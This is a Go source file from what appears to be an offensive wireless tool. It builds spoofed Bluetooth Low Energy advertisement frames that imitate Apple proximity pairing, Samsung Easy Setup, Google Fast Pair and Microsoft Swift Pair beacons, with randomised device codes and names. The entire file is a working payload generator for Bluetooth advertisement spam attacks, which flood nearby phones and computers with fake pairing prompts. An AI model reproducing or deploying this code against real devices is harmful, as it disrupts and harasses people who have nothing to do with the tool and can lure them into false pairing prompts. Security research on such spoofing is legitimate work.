package injection

import (
	"fmt"

	"github.com/lcalzada-xor/wraith/internal/core/domain"
	"github.com/lcalzada-xor/wraith/internal/core/ports"
)

// AD types and company identifiers used by the vendor payloads.
const (
	adTypeServiceUUID16 byte = 0x03
	adTypeTxPower       byte = 0x0A
	adTypeServiceData16 byte = 0x16
	adTypeManufacturer  byte = 0xFF

	companyApple     uint16 = 0x004C
	companySamsung   uint16 = 0x0075
	companyMicrosoft uint16 = 0x0006
	fastPairService  uint16 = 0xFE2C

	// MaxAdvertisementLen is the legacy advertising data budget.
	MaxAdvertisementLen = 31
	// MaxSwiftPairName is what remains of the budget after the Swift Pair header.
	MaxSwiftPairName = MaxAdvertisementLen - swiftPairHeaderLen

	ApplePayloadLen   = 17
	SamsungPayloadLen = 15
	GooglePayloadLen  = 14

	swiftPairHeaderLen = 7
	swiftPairNameLen   = 5

	minTxPower = -100
	maxTxPower = 20
)

const alphanumeric = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"

// BuildBLEPayload serializes one advertisement for the profile's vendor.
// Every random choice comes from rng; no state is kept between calls.
func BuildBLEPayload(profile domain.AttackProfile, rng ports.RandomSource) (domain.Frame, error) {
	switch profile.Vendor {
	case domain.VendorApple:
		return buildApple(profile.Catalogue, rng)
	case domain.VendorSamsung:
		return buildSamsung(profile.Catalogue, rng)
	case domain.VendorGoogle:
		return buildGoogle(profile.Catalogue, rng)
	case domain.VendorMicrosoft:
		return BuildSwiftPair(randomName(rng, swiftPairNameLen))
	default:
		return nil, fmt.Errorf("unsupported vendor %q", profile.Vendor)
	}
}

func pick(catalogue []domain.DeviceCode, vendor domain.Vendor, rng ports.RandomSource) (domain.DeviceCode, error) {
	if len(catalogue) == 0 {
		return domain.DeviceCode{}, fmt.Errorf("%w: %s catalogue is empty", domain.ErrNoTargets, vendor)
	}
	return catalogue[rng.IntN(len(catalogue))], nil
}

func randomByte(rng ports.RandomSource) byte {
	return byte(rng.IntN(256))
}

// buildApple emits a proximity pairing message:
// len FF 4C00 | 0F 05 C1 action | 3 random | 00 00 | 10 | device(2) | status
func buildApple(catalogue []domain.DeviceCode, rng ports.RandomSource) (domain.Frame, error) {
	dev, err := pick(catalogue, domain.VendorApple, rng)
	if err != nil {
		return nil, err
	}
	action := appleActions[rng.IntN(len(appleActions))]

	w := NewFrameWriter(ApplePayloadLen)
	w.Byte(ApplePayloadLen-1).
		Byte(adTypeManufacturer).
		Uint16LE(companyApple).
		Bytes(0x0F, 0x05, 0xC1, action).
		Bytes(randomByte(rng), randomByte(rng), randomByte(rng)).
		Bytes(0x00, 0x00).
		Byte(0x10).
		Uint16BE(uint16(dev.Code)).
		Byte(randomByte(rng))
	return w.FixedFrame()
}

// buildSamsung emits a Galaxy Watch Easy Setup message.
func buildSamsung(catalogue []domain.DeviceCode, rng ports.RandomSource) (domain.Frame, error) {
	model, err := pick(catalogue, domain.VendorSamsung, rng)
	if err != nil {
		return nil, err
	}

	w := NewFrameWriter(SamsungPayloadLen)
	w.Byte(SamsungPayloadLen-1).
		Byte(adTypeManufacturer).
		Uint16LE(companySamsung).
		Bytes(0x01, 0x00, 0x02, 0x00, 0x01, 0x01, 0xFF, 0x00, 0x00, 0x43).
		Byte(byte(model.Code))
	return w.FixedFrame()
}

// buildGoogle emits a Fast Pair advertisement: service UUID list, service data
// carrying the 24-bit model ID, and a TX power level.
func buildGoogle(catalogue []domain.DeviceCode, rng ports.RandomSource) (domain.Frame, error) {
	model, err := pick(catalogue, domain.VendorGoogle, rng)
	if err != nil {
		return nil, err
	}
	txPower := int8(minTxPower + rng.IntN(maxTxPower-minTxPower+1))
	svc := byte(fastPairService & 0xff)
	svcHi := byte(fastPairService >> 8)

	w := NewFrameWriter(GooglePayloadLen)
	w.ADStructure(adTypeServiceUUID16, svc, svcHi).
		ADStructure(adTypeServiceData16, svc, svcHi,
			byte(model.Code>>16), byte(model.Code>>8), byte(model.Code)).
		ADStructure(adTypeTxPower, byte(txPower))
	return w.FixedFrame()
}

// BuildSwiftPair emits a Microsoft Swift Pair beacon advertising name.
func BuildSwiftPair(name string) (domain.Frame, error) {
	if len(name) > MaxSwiftPairName {
		return nil, &domain.FrameInputError{Field: "name", Length: len(name), Max: MaxSwiftPairName}
	}

	w := NewFrameWriter(swiftPairHeaderLen + len(name))
	w.Byte(byte(swiftPairHeaderLen - 1 + len(name))).
		Byte(adTypeManufacturer).
		Uint16LE(companyMicrosoft).
		Bytes(0x03, 0x00, 0x80).
		Bytes([]byte(name)...)
	return w.FixedFrame()
}

func randomName(rng ports.RandomSource, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphanumeric[rng.IntN(len(alphanumeric))]
	}
	return string(b)
}
